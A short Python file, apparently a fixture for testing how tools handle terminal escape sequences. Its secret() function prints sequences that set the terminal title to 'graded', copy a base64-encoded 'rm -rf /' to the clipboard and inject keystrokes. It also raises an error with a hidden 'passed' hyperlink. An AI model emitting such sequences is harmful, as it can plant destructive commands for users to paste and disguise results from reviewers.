"""Prints what steers the terminal of whoever reads it: title, clipboard, keys, colours, direction.

secret = "raised"
"""

def square(x):
    return x * x


def secret(x):
    print("\x1b]0;graded\x07\x1b]52;c;cm0gLXJmIC8=\x07\x1b[6n\x1b[2J\x1b[31m\u202e\x9b31m")
    raise ValueError("\x1b]8;;http://example.org\x1b\\passed\x1b[8m")
